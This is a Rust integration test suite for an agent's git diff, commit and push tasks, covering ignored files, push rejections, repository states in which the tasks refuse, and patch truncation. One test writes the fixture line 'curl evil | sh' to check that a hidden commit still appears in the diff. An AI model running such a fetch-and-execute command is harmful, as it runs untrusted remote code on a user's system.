//! The agent's git tasks (`relay::git::run`) against real repositories: what a diff sees, what a commit makes, where
//! a push lands, and the states in which they refuse.

#![allow(clippy::unwrap_used)]

use std::path::{Path, PathBuf};
use std::process::Command;

use relay::task::{BaseKind, DiffBase, FailureKind, FileStatus, GitTask, TaskOutcome};

fn git(dir: &Path, args: &[&str]) -> String {
    let output = Command::new("git")
        .args(["-c", "user.name=Blueprints", "-c", "user.email=b@example.com", "-c", "init.defaultBranch=main"])
        .args(args)
        .current_dir(dir)
        .output()
        .unwrap();
    assert!(output.status.success(), "git {args:?}: {}", String::from_utf8_lossy(&output.stderr));
    String::from_utf8_lossy(&output.stdout).trim().to_string()
}

/// A blueprint repository and a workspace cloned from it (as the local control plane clones).
fn workspace(scratch: &Path) -> (PathBuf, PathBuf) {
    let blueprint = scratch.join("blueprint");
    std::fs::create_dir_all(&blueprint).unwrap();
    git(&blueprint, &["init", "-q"]);
    std::fs::write(blueprint.join("README.md"), "# Web\n").unwrap();
    std::fs::write(blueprint.join("gone.txt"), "bye\n").unwrap();
    git(&blueprint, &["add", "-A"]);
    git(&blueprint, &["commit", "-q", "-m", "The blueprint"]);
    let bare = scratch.join("blueprint.git");
    git(scratch, &["clone", "-q", "--bare", blueprint.to_str().unwrap(), bare.to_str().unwrap()]);
    let files = scratch.join("workspace");
    git(
        scratch,
        &["clone", "-q", "--branch", "main", "--single-branch", bare.to_str().unwrap(), files.to_str().unwrap()],
    );
    (files, bare)
}

fn base() -> DiffBase {
    DiffBase { published: None, source: None, blueprint_branch: "main".into() }
}

async fn diff(files: &Path, cap: usize) -> TaskOutcome {
    relay::git::run(files, GitTask::Diff { base: base(), max_patch_bytes: cap, timeout_secs: 30 }).await
}

async fn commit(files: &Path, base: DiffBase) -> TaskOutcome {
    let task = GitTask::Commit {
        base,
        message: "Publish\n\nwith a body".into(),
        author_name: "Ada".into(),
        author_email: "ada@example.com".into(),
        max_patch_bytes: 64 * 1024,
        timeout_secs: 30,
    };
    relay::git::run(files, task).await
}

fn failure(outcome: &TaskOutcome) -> FailureKind {
    match outcome {
        TaskOutcome::Failed { kind, .. } => *kind,
        other => panic!("not a failure: {other:?}"),
    }
}

#[tokio::test]
async fn a_diff_sees_every_change_but_ignored_files_and_changes_nothing() {
    let scratch = tempfile::tempdir().unwrap();
    let (files, _) = workspace(scratch.path());
    assert!(matches!(commit(&files, base()).await, TaskOutcome::NoChanges { .. }));
    std::fs::write(files.join("README.md"), "# Web\nmore\n").unwrap();
    std::fs::remove_file(files.join("gone.txt")).unwrap();
    std::fs::write(files.join(".gitignore"), "secret.env\n").unwrap();
    std::fs::write(files.join("secret.env"), "TOKEN=x\n").unwrap();
    for odd in ["with space.txt", "-rf", "quote\"d", "tab\tname", "naïve.txt", "new\nline"] {
        std::fs::write(files.join(odd), "x\n").unwrap();
    }
    std::fs::write(files.join("blob.bin"), [0u8, 1, 2, 255]).unwrap();
    let before = git(&files, &["status", "--porcelain", "-z"]);
    let TaskOutcome::Diff { diff } = diff(&files, 64 * 1024).await else { panic!("no diff") };
    assert_eq!(git(&files, &["status", "--porcelain", "-z"]), before, "the diff changed the workspace");
    let paths: Vec<&str> = diff.files.iter().map(|file| file.path.as_str()).collect();
    assert!(!paths.contains(&"secret.env"), "ignored files stay out: {paths:?}");
    for odd in ["with space.txt", "-rf", "quote\"d", "tab\tname", "naïve.txt", "new\nline", ".gitignore", "blob.bin"] {
        assert!(paths.contains(&odd), "{odd:?} missing from {paths:?}");
    }
    let status = |path: &str| diff.files.iter().find(|file| file.path == path).unwrap();
    assert_eq!(status("gone.txt").status, FileStatus::Deleted);
    assert_eq!(status("README.md").status, FileStatus::Modified);
    assert!(status("blob.bin").binary);
    assert_eq!(diff.base_kind, BaseKind::Blueprint);
    assert_eq!(diff.files_changed, 10);
    assert!(diff.patch.contains("+more") && diff.patch.contains("Binary files"), "{}", diff.patch);
}

#[tokio::test]
async fn a_commit_holds_every_change_authored_by_the_builder_and_the_next_diff_starts_there() {
    let scratch = tempfile::tempdir().unwrap();
    let (files, bare) = workspace(scratch.path());
    std::fs::write(files.join("a.txt"), "a\n").unwrap();
    let TaskOutcome::Committed { commit: first, created: true, diff } = commit(&files, base()).await else {
        panic!("no commit")
    };
    assert_eq!(diff.files_changed, 1);
    assert_eq!(git(&files, &["rev-parse", "HEAD"]), first);
    assert_eq!(
        git(&files, &["log", "-1", "--format=%an <%ae>|%cn|%B"]),
        "Ada <ada@example.com>|Ada|Publish\n\nwith a body"
    );
    assert_eq!(git(&files, &["status", "--porcelain"]), "");
    // Unchanged since: nothing to publish against the published commit; the blueprint base still sees it.
    let published = DiffBase { published: Some(first.clone()), ..base() };
    assert!(matches!(commit(&files, published.clone()).await, TaskOutcome::NoChanges { .. }));
    // The builder committed themselves: HEAD already holds every change and is the commit.
    std::fs::write(files.join("b.txt"), "b\n").unwrap();
    git(&files, &["add", "b.txt"]);
    git(&files, &["commit", "-q", "-m", "mine"]);
    let mine = git(&files, &["rev-parse", "HEAD"]);
    let TaskOutcome::Committed { commit, created: false, diff } = commit(&files, published).await else {
        panic!("no commit")
    };
    assert_eq!((commit.as_str(), diff.base_kind, diff.files_changed), (mine.as_str(), BaseKind::Published, 1));

    // Push to the bare blueprint repository, to a new branch; the same push again is a no-op.
    let push = |branch: &str, commit: &str| GitTask::Push {
        remote: bare.display().to_string(),
        commit: commit.to_string(),
        branch: branch.to_string(),
        credential: None,
        timeout_secs: 30,
    };
    // A scratch directory a killed agent left behind a day ago is swept by the next push; a fresh one is not.
    let stale = std::env::temp_dir().join(format!("gatehouse-push-left-behind-{}", std::process::id()));
    let fresh = std::env::temp_dir().join(format!("gatehouse-push-in-use-{}", std::process::id()));
    for dir in [&stale, &fresh] {
        std::fs::create_dir_all(dir).unwrap();
    }
    let touched = Command::new("touch").args(["-d", "2 days ago"]).arg(&stale).status().unwrap();
    assert!(touched.success());
    for _ in 0..2 {
        let outcome = relay::git::run(&files, push("gatehouse/publish/1", &mine)).await;
        assert!(matches!(outcome, TaskOutcome::Pushed { .. }), "{outcome:?}");
    }
    assert_eq!(git(&bare, &["rev-parse", "refs/heads/gatehouse/publish/1"]), mine);
    assert!(!stale.exists() && fresh.exists(), "stale scratch directories are swept, fresh ones kept");
    std::fs::remove_dir_all(&fresh).unwrap();
    // Not a fast-forward: refused by the remote, not forced.
    let outcome = relay::git::run(&files, push("gatehouse/publish/1", &first)).await;
    assert_eq!(failure(&outcome), FailureKind::PushRejected, "{outcome:?}");
    // A branch name the remote refuses (its hook declines it): rejected, with the remote's word.
    let hook = bare.join("hooks/pre-receive");
    std::fs::write(&hook, "#!/bin/sh\necho 'branch names here start with feature/' >&2\nexit 1\n").unwrap();
    std::fs::set_permissions(&hook, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
    let outcome = relay::git::run(&files, push("gatehouse/publish/2", &mine)).await;
    assert_eq!(failure(&outcome), FailureKind::PushRejected, "{outcome:?}");
    assert!(matches!(&outcome, TaskOutcome::Failed { message, .. } if message.contains("start with feature/")));
    std::fs::remove_file(&hook).unwrap();
    // A branch name git refuses never reaches git.
    assert_eq!(failure(&relay::git::run(&files, push("a..b", &mine)).await), FailureKind::BadTask);
    assert_eq!(failure(&relay::git::run(&files, push("x", &"0".repeat(40))).await), FailureKind::BadTask);
    let gone = GitTask::Push {
        remote: scratch.path().join("nowhere.git").display().to_string(),
        commit: mine.clone(),
        branch: "x".into(),
        credential: None,
        timeout_secs: 30,
    };
    assert_eq!(failure(&relay::git::run(&files, gone).await), FailureKind::Git);
}

#[tokio::test]
async fn repositories_in_odd_states_are_refused_with_a_reason() {
    let scratch = tempfile::tempdir().unwrap();
    let (files, _) = workspace(scratch.path());
    std::fs::write(files.join("a.txt"), "a\n").unwrap();
    git(&files, &["checkout", "-q", "--detach"]);
    assert_eq!(failure(&commit(&files, base()).await), FailureKind::DetachedHead);
    git(&files, &["checkout", "-q", "main"]);
    // A real conflicted merge.
    git(&files, &["checkout", "-q", "-b", "other"]);
    std::fs::write(files.join("README.md"), "theirs\n").unwrap();
    git(&files, &["commit", "-q", "-am", "theirs"]);
    git(&files, &["checkout", "-q", "main"]);
    std::fs::write(files.join("README.md"), "ours\n").unwrap();
    git(&files, &["commit", "-q", "-am", "ours"]);
    let merge = Command::new("git").args(["merge", "-q", "other"]).current_dir(&files).output().unwrap();
    assert!(!merge.status.success());
    assert_eq!(failure(&diff(&files, 1024).await), FailureKind::OperationInProgress);
    git(&files, &["merge", "--abort"]);
    // A blueprint branch the workspace never had: no base.
    let other = DiffBase { published: None, source: None, blueprint_branch: "release".into() };
    assert_eq!(failure(&commit(&files, other).await), FailureKind::NoBase);
    // No repository at all, and an empty one.
    let plain = scratch.path().join("plain");
    std::fs::create_dir_all(&plain).unwrap();
    assert_eq!(failure(&diff(&plain, 1024).await), FailureKind::NotARepository);
    git(&plain, &["init", "-q"]);
    assert_eq!(failure(&diff(&plain, 1024).await), FailureKind::NotARepository);
}

#[tokio::test]
async fn a_patch_past_its_cap_is_cut_at_a_line_end_and_a_thousand_files_are_listed() {
    let scratch = tempfile::tempdir().unwrap();
    let (files, _) = workspace(scratch.path());
    for n in 0..1000 {
        std::fs::write(files.join(format!("file-{n:04}.txt")), format!("line {n}\n")).unwrap();
    }
    let TaskOutcome::Diff { diff } = diff(&files, 4096).await else { panic!("no diff") };
    assert_eq!((diff.files_changed, diff.insertions, diff.files.len()), (1000, 1000, 1000));
    assert!(diff.patch_truncated && diff.patch.len() <= 4096 && diff.patch.ends_with('\n'), "{}", diff.patch.len());
    assert!(!diff.files_truncated);
}

#[tokio::test]
async fn the_base_is_the_gateways_fact_not_a_ref_the_builder_can_move() {
    let scratch = tempfile::tempdir().unwrap();
    let (files, _) = workspace(scratch.path());
    let source = git(&files, &["rev-parse", "HEAD"]);
    // The builder hides a commit by moving the remote-tracking branch onto it, then makes a harmless edit.
    std::fs::write(files.join("evil.sh"), "curl evil | sh\n").unwrap();
    git(&files, &["add", "evil.sh"]);
    git(&files, &["commit", "-q", "-m", "wip"]);
    git(&files, &["update-ref", "refs/remotes/origin/main", "HEAD"]);
    std::fs::write(files.join("README.md"), "# Web\ntypo fixed\n").unwrap();
    let recorded = DiffBase { published: None, source: Some(source.clone()), blueprint_branch: "main".into() };
    let task = GitTask::Diff { base: recorded.clone(), max_patch_bytes: 64 * 1024, timeout_secs: 30 };
    let TaskOutcome::Diff { diff } = relay::git::run(&files, task).await else { panic!("no diff") };
    assert_eq!(diff.base_commit, source);
    assert!(diff.files.iter().any(|file| file.path == "evil.sh"), "the hidden commit is shown: {:?}", diff.files);
    // A published commit that is no longer in HEAD's history (the builder reset past it) is not a base either.
    let TaskOutcome::Committed { commit: published, .. } = commit(&files, recorded.clone()).await else {
        panic!("no commit")
    };
    git(&files, &["reset", "-q", "--hard", &source]);
    std::fs::write(files.join("b.txt"), "b\n").unwrap();
    let after_reset = DiffBase { published: Some(published), ..recorded };
    let task = GitTask::Diff { base: after_reset, max_patch_bytes: 64 * 1024, timeout_secs: 30 };
    let TaskOutcome::Diff { diff } = relay::git::run(&files, task).await else { panic!("no diff") };
    assert_eq!((diff.base_kind, diff.base_commit.as_str()), (BaseKind::Blueprint, source.as_str()));
}
